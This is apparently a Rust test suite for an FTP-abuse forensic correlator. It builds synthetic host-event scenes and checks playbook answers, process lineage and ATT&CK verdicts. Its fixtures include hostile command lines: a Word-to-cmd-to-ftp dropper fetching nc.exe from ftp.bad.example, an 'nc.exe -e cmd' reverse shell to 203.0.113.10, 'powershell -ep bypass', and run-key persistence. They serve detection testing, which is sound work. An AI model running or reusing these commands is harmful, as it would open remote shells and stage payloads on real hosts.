//! What the host recorded, tied to what scripts say: scenes for every step of the playbooks, and what hostile facts may cost.

mod scene;

use ftpsift::artifact::event::{Direction as Way, Event as Fact, Process};
use ftpsift::base::limits::Limits;
use ftpsift::case::playbook::Answer;
use ftpsift::case::run::{LinkedBy, ParentKind, ProgramLocation, RunKnownBy, ScriptState};
use ftpsift::case::{Case, PayloadStatus};
use ftpsift::correlate::correlate;
use ftpsift::correlate::interest::Interest;
use ftpsift::correlate::sources::{ArtifactSource, LogSource, Policy};
use ftpsift::finding::{Finding, Severity};
use ftpsift::script::session::Scheme;
use scene::*;
use std::collections::BTreeSet;

const WORD: &str = "C:\\Program Files\\Microsoft Office\\WINWORD.EXE";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";

/// Word starts cmd, which writes the script and starts ftp.exe with it; the payload comes over a passive connection, is
/// started, and the script goes.
fn dropper() -> Scene {
    let mut scene = Scene::new();
    scene
        .script("ftp.bad.example", Scheme::Ftp, &["nc.exe"], &[])
        .start(0, 10, WORD, "WINWORD.EXE /n a.docm", (9, EXPLORER))
        .start(10, 11, CMD, "cmd /c (echo open ftp.bad.example)>f.txt & ftp -n -i -s:f.txt", (10, WORD))
        .of(11, 11, 11, CMD, file(SCRIPT))
        .start(12, 12, FTP, "ftp  -n -i -s:f.txt", (11, CMD))
        .of(13, 22, 12, FTP, asks("ftp.bad.example", &["::ffff:203.0.113.10"]))
        .of(13, 3, 12, FTP, connects(Way::Outbound, SERVER, 21, 50000))
        .of(15, 3, 12, FTP, connects(Way::Outbound, SERVER, 50123, 50001))
        .of(15, 11, 12, FTP, file(PAYLOAD))
        .of(17, 5, 12, FTP, Fact::default())
        .of(18, 23, 11, CMD, file(SCRIPT))
        .start(25, 13, PAYLOAD, "nc.exe -e cmd 203.0.113.10 443", (11, CMD));
    scene
}

/// A scene with another command line of the client, and other connections.
fn client(line: &str, connections: &[Fact]) -> Scene {
    let mut scene = Scene::new();
    scene.script(SERVER, Scheme::Ftp, &["nc.exe"], &[]).start(12, 12, FTP, line, (11, CMD));
    for connection in connections {
        scene.of(13, 3, 12, FTP, connection.clone());
    }
    scene
}

/// The payload comes, and a program is given it.
fn follow_on(image: &str, line: &str, payload: &str) -> Scene {
    let mut scene = Scene::new();
    scene
        .script(SERVER, Scheme::Ftp, &[payload], &[])
        .start(12, 12, FTP, "ftp -s:f.txt", (11, CMD))
        .of(15, 11, 12, FTP, file(&format!("C:\\Users\\Public\\{payload}")))
        .start(25, 13, image, line, (11, CMD));
    scene
}

fn persisted(fact: Fact) -> Scene {
    let mut scene = client("ftp -s:f.txt", &[]);
    scene.fact(fact);
    scene
}

fn upload() -> Scene {
    let mut scene = Scene::new();
    scene
        .script(SERVER, Scheme::Ftp, &[], &["loot.zip"])
        .start(12, 12, FTP, "ftp -s:f.txt", (11, CMD))
        .of(13, 3, 12, FTP, connects(Way::Outbound, SERVER, 21, 50000))
        .of(15, 3, 12, FTP, connects(Way::Outbound, SERVER, 50123, 50001));
    scene
}

fn allowed() -> Scene {
    let svchost = "C:\\Windows\\System32\\svchost.exe";
    let mut scene = Scene::new();
    scene
        .script("10.1.2.3", Scheme::Ftp, &["prices.csv"], &[])
        .start(0, 11, svchost, "svchost.exe -k netsvcs -p -s Schedule", (5, "C:\\Windows\\System32\\services.exe"))
        .start(12, 12, FTP, "ftp -s:f.txt", (11, svchost))
        .of(13, 3, 12, FTP, connects(Way::Outbound, "10.1.2.3", 21, 50000));
    scene.sources.known = vec!["10.0.0.0/8".to_owned()];
    scene.case.findings.push(Finding {
        id: "f1".to_owned(),
        rule: "script.download".to_owned(),
        title: "A script downloads".to_owned(),
        severity: Severity::Low,
        attack: Vec::new(),
        evidence_refs: vec!["s1.1".to_owned()],
        explanation: String::new(),
        allowed_by: Some("allow.toml#1".to_owned()),
    });
    scene
}

fn cleared() -> Scene {
    let mut scene = dropper();
    scene.fact(Fact { time: at(60), source: "security-1102".to_owned(), ..Fact::default() });
    let mut log = LogSource::new("Security", "e1", "Security.evtx");
    log.count(1, at(0), "security-4688", false);
    log.count(50, at(100), "security-4688", false);
    scene.sources.logs.push(log);
    scene.sources.policies.push(Policy {
        what: "prefetch".to_owned(),
        enabled: false,
        told_by: "EnablePrefetcher is 0".to_owned(),
    });
    scene
}

#[test]
fn every_step_of_the_playbooks() {
    use Answer::{Answered, NotApplicable, NotExamined, NothingFound};
    let ftps = [connects(Way::Outbound, SERVER, 990, 50000)];
    let active = [connects(Way::Outbound, SERVER, 21, 50000), connects(Way::Inbound, SERVER, 20, 50002)];
    let odd = [connects(Way::Outbound, "198.51.100.7", 2121, 50000)];
    let renamed = || {
        let mut scene = Scene::new();
        let program = "C:\\Users\\Public\\svc.exe";
        scene.script(SERVER, Scheme::Ftp, &["nc.exe"], &[]).start_as(
            12,
            12,
            (program, "ftp.exe"),
            "svc.exe -A -s:f.txt",
            (11, CMD),
        );
        scene
    };
    let dll =
        || follow_on("C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Users\\Public\\a.dll,Start", "a.dll");
    let hta = || follow_on("C:\\Windows\\System32\\mshta.exe", "mshta.exe C:\\Users\\Public\\a.hta", "a.hta");
    let ps1 = || follow_on("C:\\x\\powershell.exe", "powershell -ep bypass -File a.ps1", "a.ps1");
    let run_key = || {
        persisted(sets(
            "HKU\\S-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
            "\"C:\\Users\\Public\\nc.exe\" -d",
        ))
    };
    let task = || persisted(starts("scheduled-task", "ftp -s:C:\\Users\\Public\\f.txt"));
    let shell = || {
        let mut scene = client("ftp -s:f.txt", &[]);
        scene.start(14, 13, CMD, "cmd /c whoami", (12, FTP));
        scene
    };
    let rows: Vec<(Scene, &str, Answer, &str)> = vec![
        (dropper(), "1.initial-response.capture", Answered, "2 connections of C:\\Windows\\System32\\ftp.exe"),
        (
            dropper(),
            "1.initial-response.destination",
            Answered,
            "203.0.113.10 is documentation, port 21, asked for as ftp.bad.example",
        ),
        (client("ftp -s:f.txt", &odd), "1.initial-response.destination", Answered, "port 2121 (not a standard one)"),
        (
            client("ftp -s:f.txt", &odd),
            "1.initial-response.destination",
            Answered,
            "the script names 203.0.113.10; the records show",
        ),
        (
            allowed(),
            "1.initial-response.destination",
            Answered,
            "10.1.2.3 is internal, port 21, named by its number, known",
        ),
        (dropper(), "1.initial-response.scope", Answered, "1 runs by CORP\\bob on PC1"),
        (dropper(), "1.process-lineage.image", Answered, "ftp.exe (system32), windows-ftp by image-name"),
        (
            renamed(),
            "1.process-lineage.image",
            Answered,
            "svc.exe (elsewhere), windows-ftp by original-file-name, renamed",
        ),
        (dropper(), "1.process-lineage.parent", Answered, "behind it is office, which seldom"),
        (
            dropper(),
            "1.process-lineage.directory",
            Answered,
            "script acquired, C:\\Users\\Public\\f.txt; written by C:\\Windows\\System32\\cmd.exe",
        ),
        (dropper(), "1.protocol-ports.control", Answered, "1 control connections, first with 203.0.113.10:21"),
        (client("ftp -s:f.txt", &active), "1.protocol-ports.active", Answered, "1 active data connections"),
        (dropper(), "1.protocol-ports.active", NothingFound, "no active"),
        (dropper(), "1.protocol-ports.passive", Answered, "1 passive data connections, first with 203.0.113.10:50123"),
        (client("ftp -s:f.txt", &ftps), "1.protocol-ports.ftps", Answered, "implicit TLS"),
        (client("ftp -s:f.txt", &[]), "1.protocol-ports.ftps", NotExamined, "Sysmon 3 or Security 5156"),
        (dropper(), "1.artifact-discovery.files", Answered, "made C:\\Users\\Public\\nc.exe at 2026-03-01T10:00:15Z"),
        (dropper(), "1.artifact-discovery.scripts", Answered, "1 logins"),
        (dropper(), "1.artifact-discovery.analysis", Answered, "nc.exe: executed, seen"),
        (
            dropper(),
            "1.correlation-follow-on.execution",
            Answered,
            "nc.exe was started by itself at 2026-03-01T10:00:25Z, 10 s after it came",
        ),
        (dll(), "1.correlation-follow-on.execution", Answered, "a.dll was started by rundll32"),
        (hta(), "1.correlation-follow-on.execution", Answered, "a.hta was started by mshta"),
        (ps1(), "1.correlation-follow-on.execution", Answered, "a.ps1 was started by powershell"),
        (dropper(), "1.correlation-follow-on.prevalence", Answered, "the fleet beyond this evidence was not examined"),
        (dropper(), "1.key-artifacts.dns", Answered, "ftp.bad.example = 203.0.113.10, and a connection went there"),
        (dropper(), "1.key-artifacts.proxy", NotExamined, "proxies"),
        (dropper(), "1.direction.direction", Answered, "r1: T1105 (seen): it fetches one file from ftp.bad.example"),
        (upload(), "1.direction.direction", Answered, "r1: T1048.003 (seen): it sends one file"),
        (dropper(), "1.containment-actions.quarantine", Answered, "block 203.0.113.10"),
        (
            dropper(),
            "1.containment-actions.isolate",
            Answered,
            "isolate the host: C:\\Users\\Public\\nc.exe is executed",
        ),
        (dropper(), "1.prevention-measures.egress", NotApplicable, "below office"),
        (dropper(), "1.recovery.recover", Answered, "rotate the login of bob at ftp.bad.example"),
        (allowed(), "1.false-positives.legacy", Answered, "allowed by allow.toml#1"),
        (allowed(), "1.false-positives.legacy", Answered, "the task scheduler started it"),
        (dropper(), "1.false-positives.legacy", Answered, "nothing speaks for an approved job"),
        (cleared(), "1.coverage.coverage", Answered, "was cleared at 2026-03-01T10:01:00Z (security-1102)"),
        (cleared(), "1.coverage.coverage", Answered, "Security: records 2 to 49 are missing"),
        (cleared(), "1.coverage.coverage", Answered, "the host does not record prefetch: EnablePrefetcher is 0"),
        (
            dropper(),
            "2.initial-response.context",
            Answered,
            "parent C:\\Windows\\System32\\cmd.exe, user CORP\\bob, integrity medium",
        ),
        (
            dropper(),
            "2.initial-response.collect",
            Answered,
            "deleted by C:\\Windows\\System32\\cmd.exe at 2026-03-01T10:00:18Z",
        ),
        (dropper(), "2.initial-response.baseline", Answered, "for the owner to say"),
        (
            dropper(),
            "2.command-line-semantics.switches",
            Answered,
            "-s:f.txt takes its commands from that file; -n does not log in",
        ),
        (renamed(), "2.command-line-semantics.switches", Answered, "-A logs in anonymously"),
        (
            client("ftp -w:4096 -i h", &[]),
            "2.command-line-semantics.switches",
            Answered,
            "-w:4096 size of the transfer buffer",
        ),
        (dropper(), "2.command-line-semantics.content", Answered, "s1: C:\\Users\\Public\\f.txt (file)"),
        (
            dropper(),
            "2.command-line-semantics.identify",
            Answered,
            "ftp.bad.example:21, users [bob], fetches [nc.exe], sends []",
        ),
        (dropper(), "2.file-path-analysis.locate", Answered, "nc.exe"),
        (run_key(), "2.file-path-analysis.persistence", Answered, "run-key HKU"),
        (task(), "2.file-path-analysis.persistence", Answered, "scheduled-task Updater starts ftp-client, s1"),
        (dropper(), "2.file-path-analysis.persistence", Answered, "nc.exe was executed"),
        (dropper(), "2.network-dns-corroboration.network", Answered, "1 data connections"),
        (dropper(), "2.network-dns-corroboration.dns", Answered, "ftp.bad.example"),
        (dropper(), "2.network-dns-corroboration.proxy", NotExamined, "not read"),
        (dropper(), "2.follow-on-lateral-context.pivot", Answered, "nc.exe was started"),
        (shell(), "2.follow-on-lateral-context.children", Answered, "r1: started cmd /c whoami"),
        (dropper(), "2.follow-on-lateral-context.children", NothingFound, "no client started anything"),
        (dropper(), "2.follow-on-lateral-context.prevalence", Answered, "ftp.bad.example is named by 1 scripts"),
        (dropper(), "2.key-artifacts.lineage", Answered, "WINWORD.EXE /n a.docm [office]"),
        (dropper(), "2.key-artifacts.writes", Answered, "its script was written by C:\\Windows\\System32\\cmd.exe"),
        (dropper(), "2.direction.direction", Answered, "T1105"),
        (dropper(), "2.containment-actions.quarantine", Answered, "quarantine the script C:\\Users\\Public\\f.txt"),
        (run_key(), "2.containment-actions.isolate", Answered, "nc.exe is persisted"),
        (dropper(), "2.prevention-measures.egress", NotApplicable, "an alert on -s: would have told"),
        (run_key(), "2.recovery.recover", Answered, "remove the run-key"),
        (allowed(), "2.false-positives.automation", Answered, "all its destinations are internal"),
        (dropper(), "2.coverage.coverage", Answered, "program-memory: not examined"),
    ];
    let mut asked = BTreeSet::new();
    let mut known = BTreeSet::new();
    for (scene, id, answer, words) in rows {
        let case = scene.run();
        says(&case, id, answer, words);
        asked.insert(id.to_owned());
        known.extend(case.playbooks.iter().map(|step| step.id.clone()));
    }
    assert_eq!(asked, known, "a row for every step");
}

/// What is claimed, in words that can be compared: states of files, techniques with what they rest on.
fn verdicts(case: &Case) -> BTreeSet<String> {
    let mut all: BTreeSet<String> = BTreeSet::new();
    for claim in &case.claims {
        let strong = claim
            .states
            .iter()
            .filter(|state| !matches!(serde_json::to_value(state.state).unwrap().as_str(), Some("never-seen")));
        all.extend(strong.map(|state| format!("{} {:?}", claim.file, state.state)));
    }
    for verdict in &case.verdicts {
        all.extend((0..=verdict.basis as u8).map(|basis| format!("{} {basis}", verdict.technique)));
    }
    all.extend(
        case.runs.iter().map(|run| format!("parent {:?}", run.parent_kind)).filter(|kind| kind != "parent Unknown"),
    );
    all
}

#[test]
fn without_a_source_no_verdict_grows_and_the_coverage_says_why() {
    let whole = verdicts(&dropper().run());
    assert!(whole.len() >= 6, "{whole:?}");
    let cases: &[(&[&str], &str, &str)] = &[
        (&["sysmon-3"], "connections", "1.protocol-ports.control"),
        (&["sysmon-22"], "dns-questions", "1.key-artifacts.dns"),
        (&["sysmon-11"], "file-creations", "2.key-artifacts.writes"),
        (&["sysmon-23"], "file-deletions", ""),
        (&["sysmon-1"], "process-starts", "1.process-lineage.parent"),
        (
            &["sysmon-1", "sysmon-3", "sysmon-5", "sysmon-11", "sysmon-22", "sysmon-23"],
            "process-starts",
            "2.initial-response.context",
        ),
    ];
    for (removed, row, step_id) in cases {
        let mut scene = dropper();
        scene.events.retain(|event| !removed.contains(&event.fact.source.as_str()));
        let case = scene.run();
        let left = verdicts(&case);
        let grown: Vec<&String> = left.difference(&whole).filter(|word| !word.starts_with("parent")).collect();
        assert!(grown.is_empty(), "{removed:?}: {grown:?}");
        let row = case.coverage.iter().find(|known| known.source == *row).unwrap();
        assert!(!row.examined && row.why.as_ref().unwrap().contains("not examined"), "{row:?}");
        // The client's own connections and files still tell of a run where its start is in no record.
        if !step_id.is_empty() && (removed.len() > 1 || removed[0] != "sysmon-1") {
            assert_eq!(step(&case, step_id).answer, Answer::NotExamined, "{removed:?} {step_id}");
        }
    }
    let mut scene = dropper();
    scene.events.clear();
    scene.sources.artifacts.insert(
        "prefetch".to_owned(),
        ArtifactSource { why: "the folder is empty".to_owned(), ..ArtifactSource::default() },
    );
    let case = scene.run();
    assert!(states(&case, "nc.exe").contains("never-seen") && case.runs.is_empty());
    assert!(case.verdicts.iter().all(|verdict| verdict.against.iter().any(|text| text.contains("no record"))));
}

#[test]
fn lineage_by_identity_by_number_and_by_the_child_alone() {
    let case = dropper().run();
    let run = &case.runs[0];
    assert_eq!(
        (run.client.dialect(), run.parent_kind, run.script.state),
        ("windows", ParentKind::Office, ScriptState::Acquired)
    );
    let above: Vec<_> = run.parents.iter().map(|parent| (parent.depth, parent.kind, parent.linked_by)).collect();
    let expected = [
        (1, ParentKind::Shell, LinkedBy::Guid),
        (2, ParentKind::Office, LinkedBy::Guid),
        (3, ParentKind::Explorer, LinkedBy::NamedByChild),
    ];
    assert_eq!(above, expected);
    assert_eq!((run.started, run.ended), (at(12), at(17)));

    // As a real log has it: ftp.exe is known only as what started cmd, with the command line that the child's record gives.
    let mut scene = Scene::new();
    scene.start(0, 20, CMD, "cmd.exe /C c:\\Windows\\system32\\calc.exe", (19, FTP)).start(
        1,
        21,
        "C:\\Windows\\System32\\calc.exe",
        "calc.exe",
        (20, CMD),
    );
    let parent = scene.events[0].fact.process.as_mut().unwrap().parent.as_mut().unwrap();
    parent.command_line =
        Some("\"C:\\Windows\\System32\\ftp.exe\" -s:c:\\users\\ieuser\\appdata\\local\\temp\\ftp.txt".to_owned());
    let case = scene.run();
    let run = &case.runs[0];
    assert_eq!((run.known_by, run.script.state), (RunKnownBy::NamedByChild, ScriptState::Missing));
    assert_eq!(run.script.path.as_deref(), Some("c:\\users\\ieuser\\appdata\\local\\temp\\ftp.txt"));
    let below: Vec<_> = run.children.iter().map(|child| (child.depth, child.command_line.as_deref())).collect();
    assert_eq!(below, [(1, Some("cmd.exe /C c:\\Windows\\system32\\calc.exe")), (2, Some("calc.exe"))]);
}

/// Security 4688 and 4689: no identities, and a number that was given again.
#[test]
fn numbers_that_are_given_again() {
    let record = |number: u32, second: i64, pid: u64, image: &str, parent: Option<u64>| Fact {
        time: at(second),
        source: format!("security-{number}"),
        action: Some(if number == 4688 { "started" } else { "ended" }.to_owned()),
        process: Some(Process {
            executable: Some(image.to_owned()),
            pid: Some(pid),
            parent: parent.map(|pid| Box::new(Process { pid: Some(pid), ..Process::default() })),
            ..Process::default()
        }),
        ..Fact::default()
    };
    let mut scene = Scene::new();
    scene
        .fact(record(4688, 0, 100, WORD, Some(4)))
        .fact(record(4689, 10, 100, WORD, None))
        .fact(record(4688, 20, 100, CMD, Some(4)))
        .fact(record(4688, 30, 200, FTP, Some(100)))
        .fact(record(4689, 40, 200, FTP, None))
        .fact(record(4688, 50, 200, CMD, Some(100)))
        .fact(record(4688, 60, 300, "C:\\Windows\\System32\\whoami.exe", Some(200)));
    let case = scene.run();
    let run = &case.runs[0];
    assert_eq!((case.runs.len(), run.ended), (1, at(40)));
    let parent = &run.parents[0];
    assert_eq!((parent.executable.as_deref(), parent.linked_by), (Some(CMD), LinkedBy::PidAndTime));
    assert!(
        run.children.is_empty(),
        "whoami is no child of ftp.exe: its number was another's by then: {:?}",
        run.children
    );

    // The parent had ended, and no record tells of the process that has its number now.
    let mut scene = Scene::new();
    scene.fact(record(4688, 0, 100, WORD, Some(4))).fact(record(4689, 10, 100, WORD, None)).fact(record(
        4688,
        30,
        200,
        FTP,
        Some(100),
    ));
    let case = scene.run();
    assert!(case.runs[0].parents.iter().all(|parent| parent.executable.is_none()), "{:?}", case.runs[0].parents);
}

#[test]
fn what_is_claimed_of_files() {
    let hash = "ab".repeat(32);
    let hashed = |path: &str, hash: &str| {
        let mut fact = file(path);
        fact.file.as_mut().unwrap().hashes.insert("sha256".to_owned(), hash.to_owned());
        fact
    };
    let base = || client("ftp -s:f.txt", &[]);
    let with = |change: &dyn Fn(&mut Scene)| {
        let mut scene = base();
        change(&mut scene);
        scene.run()
    };
    let prefetch = |second: i64| {
        with(&|scene| {
            scene.of(15, 11, 12, FTP, file(PAYLOAD)).fact(runs(
                "prefetch",
                "\\VOLUME{01d6}\\USERS\\PUBLIC\\NC.EXE",
                &[second],
            ));
        })
    };
    let cases: Vec<(&str, Case, &[&str])> = vec![
        ("nothing", base().run(), &["never-seen"]),
        ("present", with(&|scene| scene.case.payloads[0].status = PayloadStatus::Found), &["present"]),
        ("deleted entry", with(&|scene| scene.case.payloads[0].status = PayloadStatus::Deleted), &["deleted"]),
        ("a candidate is no proof", with(&|scene| scene.case.payloads[0].status = PayloadStatus::Candidate), &[]),
        (
            "deleted by record",
            with(&|scene| {
                scene.of(20, 23, 12, FTP, file(PAYLOAD));
            }),
            &["deleted"],
        ),
        (
            "hash by record",
            with(&|scene| {
                scene.of(15, 15, 12, FTP, hashed(PAYLOAD, &hash));
            }),
            &["hash-only", "seen"],
        ),
        ("executed by prefetch", prefetch(30), &["executed", "seen"]),
        ("run before it came", prefetch(-30), &["seen"]),
        (
            "shimcache proves no run",
            with(&|scene| {
                scene.fact(Fact { source: "shimcache".to_owned(), time: at(40), ..file(PAYLOAD) });
            }),
            &["never-seen"],
        ),
        (
            "named by del",
            with(&|scene| {
                scene.start(30, 40, CMD, "cmd /c del C:\\Users\\Public\\nc.exe", (11, CMD));
            }),
            &["never-seen"],
        ),
        (
            "another nc.exe",
            with(&|scene| {
                scene.start(30, 40, "C:\\Tools\\nc.exe", "nc.exe", (11, CMD));
            }),
            &["never-seen"],
        ),
        ("uploaded", upload().run(), &["uploaded"]),
    ];
    for (what, case, expected) in cases {
        let expected: BTreeSet<String> = expected.iter().map(|state| (*state).to_owned()).collect();
        let name = if what == "uploaded" { "loot.zip" } else { "nc.exe" };
        assert_eq!(states(&case, name), expected, "{what}: {:#?}", case.claims);
    }
    // Equal in name and MD5, and another SHA-256: another file.
    let mut scene = follow_on(PAYLOAD, "nc.exe", "nc.exe");
    let process = scene.events[2].fact.process.as_mut().unwrap();
    process.hashes.insert("sha256".to_owned(), "cd".repeat(32));
    scene.events[1].fact.file.as_mut().unwrap().hashes.insert("sha256".to_owned(), hash.clone());
    scene.case.payloads.clear();
    scene.case.scripts[0].sessions[0].transfers[0].payloads.clear();
    let case = scene.run();
    assert_eq!(case.claims[0].sha256.as_deref(), Some(hash.as_str()));
    assert!(!states(&case, "nc.exe").contains("executed"), "{:#?}", case.claims);
}

#[test]
fn clocks_that_do_not_agree_make_no_negative_duration() {
    let mut scene = dropper();
    for event in scene.events.iter_mut().filter(|event| event.fact.source == "sysmon-11") {
        event.fact.time = at(500);
    }
    scene.fact(Fact { time: at(70), source: "security-4616".to_owned(), ..Fact::default() });
    let case = scene.run();
    let executions: Vec<_> = case.claims.iter().flat_map(|claim| &claim.executions).collect();
    assert!(executions.iter().all(|execution| execution.delay_s.is_none_or(|delay| delay >= 0.0)));
    assert!(
        executions.iter().any(|execution| execution.note.as_ref().is_some_and(|note| note.contains("clocks"))),
        "{executions:?}"
    );
    assert!(case.timeline.windows(2).all(|pair| pair[0].time <= pair[1].time));
    assert!(case.timeline.iter().any(|entry| entry.kind == "clock set" && entry.note.is_some()));
    says(&case, "1.coverage.coverage", Answer::Answered, "the clock of PC1.corp.example was set");
}

#[test]
fn a_script_that_is_gone_and_that_a_command_line_wrote() {
    let mut scene = Scene::new();
    let line = "cmd /c \"echo open 203.0.113.10>g.txt&echo bob>>g.txt&echo hunter2>>g.txt&echo get nc.exe>>g.txt&ftp -s:g.txt\"";
    scene.start(10, 11, CMD, line, (10, WORD)).start(12, 12, FTP, "ftp  -s:g.txt", (11, CMD)).of(
        15,
        11,
        12,
        FTP,
        file(PAYLOAD),
    );
    let case = scene.run();
    let script = &case.runs[0].script;
    assert_eq!((script.state, script.path.as_deref()), (ScriptState::WrittenByKnown, Some("C:\\Users\\Public\\g.txt")));
    assert!(script.commands.iter().any(|line| line == "get nc.exe") && !script.commands.concat().contains("hunter2"));
    // What the client made is claimed, though no script names it.
    assert_eq!(states(&case, "nc.exe"), BTreeSet::from(["seen".to_owned()]));
    assert_eq!(case.verdicts.iter().map(|verdict| verdict.technique.as_str()).collect::<Vec<_>>(), ["T1105"]);
}

#[test]
fn uploads_to_a_server_that_commands_the_host() {
    let mut scene = Scene::new();
    scene
        .script(SERVER, Scheme::Ftp, &["nc.exe"], &["loot.zip"])
        .start(12, 12, FTP, "ftp -s:f.txt", (11, CMD))
        .of(15, 11, 12, FTP, file(PAYLOAD))
        .start(25, 13, PAYLOAD, "nc.exe", (11, CMD));
    let techniques = |case: &Case| case.verdicts.iter().map(|verdict| verdict.technique.clone()).collect::<Vec<_>>();
    assert_eq!(techniques(&scene.run()), ["T1105", "T1041"]);
    assert_eq!(techniques(&upload().run()), ["T1048.003"]);
}

#[test]
fn programs_that_windows_remembers_are_runs() {
    let mut scene = Scene::new();
    let mut fact = runs("prefetch", "FTP.EXE", &[500, 12]);
    fact.runs.as_mut().unwrap().started_from = Some("syswow64".to_owned());
    scene.start(12, 12, FTP, "ftp -s:f.txt", (11, CMD)).fact(fact);
    let case = scene.run();
    let told: Vec<_> = case.runs.iter().map(|run| (run.id.as_str(), run.known_by, run.program.location)).collect();
    let expected = [
        ("r1", RunKnownBy::ProcessStart, ProgramLocation::System32),
        ("r2", RunKnownBy::ExecutionArtifact, ProgramLocation::Syswow64),
    ];
    assert_eq!(told, expected);
    assert_eq!(case.runs[0].events.len(), 2);
}

#[test]
fn events_are_numbered_on_and_say_what_they_bear_on() {
    let mut scene = dropper();
    scene.fact(Fact { time: at(5), source: "sysmon-11".to_owned(), ..file("C:\\x\\other.txt") });
    let case = scene.run();
    let ids: Vec<&str> = case.events.iter().map(|event| event.id.as_str()).collect();
    let expected: Vec<String> = (1..=ids.len()).map(|number| format!("v{number}")).collect();
    assert_eq!(ids, expected);
    assert!(
        !case.events.iter().any(|event| event.fact.file.as_ref().is_some_and(|file| file.path.ends_with("other.txt")))
    );
    assert!(case.events.iter().any(|event| event.links.payloads.contains("p1") && event.links.runs.contains("r1")));
    let json = serde_json::to_string(&(&case.runs, &case.claims, &case.playbooks, &case.timeline)).unwrap();
    assert!(!json.contains("\"v:"), "a provisional identity is left");
    let again = dropper();
    let same = dropper().run();
    assert_eq!(serde_json::to_string(&again.run()).unwrap(), serde_json::to_string(&same).unwrap());
}

#[test]
fn a_first_pass_keeps_what_may_bear_on_the_case() {
    let scene = dropper();
    let mut interest = Interest::of(&scene.case);
    for event in &scene.events {
        let kept = interest.wants(&event.fact);
        let is_word = event.fact.process.as_ref().is_some_and(|process| process.executable.as_deref() == Some(WORD));
        assert_eq!(kept, !is_word, "{:?}", event.fact);
        if kept {
            interest.learn(&event.fact);
        }
    }
    let mut other = Scene::new();
    let renamed = "C:\\Users\\Public\\svc.exe";
    other
        .start_as(0, 50, (renamed, "ftp.exe"), "svc.exe -s:z.txt", (11, CMD))
        .of(1, 3, 50, renamed, connects(Way::Outbound, "198.51.100.9", 50123, 50001))
        .of(1, 3, 51, "C:\\x\\other.exe", connects(Way::Outbound, "198.51.100.9", 50123, 50001));
    let kept: Vec<bool> = other
        .events
        .iter()
        .map(|event| {
            let kept = interest.wants(&event.fact);
            interest.learn(&event.fact);
            kept
        })
        .collect();
    assert_eq!(kept, [true, true, false]);
}

/// As many facts as there is time for, which all share one name: the work may grow with their number, not with its square.
#[test]
fn a_name_that_all_share_ties_nothing_by_name() {
    let mut scene = Scene::new();
    let names: Vec<String> = (0..2000).map(|number| format!("{number}\\a.exe")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    scene.script(SERVER, Scheme::Ftp, &names, &[]);
    for number in 0..40_000i64 {
        match number % 4 {
            0 => scene.fact(Fact { time: at(number), source: "sysmon-11".to_owned(), ..file("a.exe") }),
            1 => scene.start(number, 7, "a.exe", "a.exe a.exe a.exe", (7, "a.exe")),
            2 => scene.of(number, 11, 12, FTP, file(&format!("C:\\Users\\Public\\{number}\\a.exe"))),
            _ => scene.fact(runs("prefetch", "A.EXE", &[number])),
        };
    }
    let begun = std::time::Instant::now();
    let case = scene.run();
    assert!(begun.elapsed().as_secs() < 20, "{:?}", begun.elapsed());
    let first = &case.claims[1];
    assert!(first.notes.iter().any(|note| note.contains("too common")), "{:?}", first.notes);
    assert!(case.claims.iter().all(|claim| claim.executions.len() <= 64 && claim.deliveries.len() <= 64));
}

/// Arbitrary facts, of few words so that they meet: no panic, the same twice, all references lead somewhere.
#[test]
fn arbitrary_facts() {
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = move |below: u64| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state % below
    };
    let images = [
        FTP,
        CMD,
        WORD,
        PAYLOAD,
        "ftp.exe",
        "",
        "\\Device\\HarddiskVolume1\\Windows\\System32\\ftp.exe",
        "C:\\x\\curl.exe",
        "C:\\ü\\ftp.exe",
    ];
    let lines = [
        "",
        "ftp -s:f.txt",
        "ftp -A -s:C:\\Users\\Public\\f.txt h",
        "curl ftp://h/a",
        "\"",
        "rundll32 nc.exe,x",
        "echo open h>f.txt&ftp -s:f.txt",
    ];
    for round in 0..150 {
        let mut scene = Scene::new();
        scene.script(SERVER, Scheme::Ftp, &["nc.exe", "a*", ""], &["loot.zip"]);
        for _ in 0..60 {
            let second = next(100) as i64 - 50;
            let (pid, parent) = (next(6), next(6));
            let image = images[next(images.len() as u64) as usize];
            let line = lines[next(lines.len() as u64) as usize];
            match next(9) {
                0..=2 => scene.start(second, pid, image, line, (parent, images[next(5) as usize])),
                3 => scene.of(
                    second,
                    3,
                    pid,
                    image,
                    connects(if next(2) == 0 { Way::Inbound } else { Way::Outbound }, SERVER, next(65536) as u16, 20),
                ),
                4 => scene.of(
                    second,
                    [11, 15, 23][next(3) as usize],
                    pid,
                    image,
                    file([PAYLOAD, SCRIPT, "", "nc.exe"][next(4) as usize]),
                ),
                5 => scene.of(second, 5, pid, image, Fact::default()),
                6 => scene.fact(starts("run-key", line)),
                7 => scene.fact(runs("bam", image, &[second, second + 9])),
                _ => scene.of(second, 22, pid, image, asks("h", &["x", SERVER])),
            };
            let event = scene.events.last_mut().unwrap();
            if next(4) == 0 {
                event.fact.time = None;
            }
            if next(4) == 0 {
                event.fact.process.iter_mut().for_each(|process| process.guid = None);
            }
        }
        let events = scene.events.clone();
        let mut case = scene.case.clone();
        let limits = Limits { lineage_depth: 1 + round % 5, client_runs: 1 + round, ..Limits::default() };
        correlate(&mut case, events.clone(), &scene.sources, &limits);
        let mut again = scene.case.clone();
        correlate(&mut again, events, &scene.sources, &limits);
        assert_eq!(serde_json::to_string(&case).unwrap(), serde_json::to_string(&again).unwrap());
        let known: BTreeSet<&str> = case.events.iter().map(|event| event.id.as_str()).collect();
        let refs = case.claims.iter().flat_map(|claim| &claim.states).flat_map(|state| &state.refs);
        let refs = refs
            .chain(case.runs.iter().flat_map(|run| &run.events))
            .chain(case.timeline.iter().flat_map(|entry| &entry.refs));
        for name in refs.filter(|name| name.starts_with('v')) {
            assert!(known.contains(name.as_str()), "{name}");
        }
        assert!(case.runs.iter().all(|run| run.parents.len() <= limits.lineage_depth));
    }
}
